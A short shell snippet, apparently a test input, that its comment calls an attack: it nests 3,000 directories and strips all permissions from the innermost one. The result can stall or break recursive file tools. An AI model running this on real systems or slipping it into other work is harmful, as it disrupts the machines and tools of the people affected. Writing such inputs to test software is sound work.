# attack: leaves 3,000 folders in each other, the last one closed
i=0; while [ $i -lt 3000 ]; do mkdir d && cd d || break; i=$((i+1)); done; chmod 000 . ; echo x
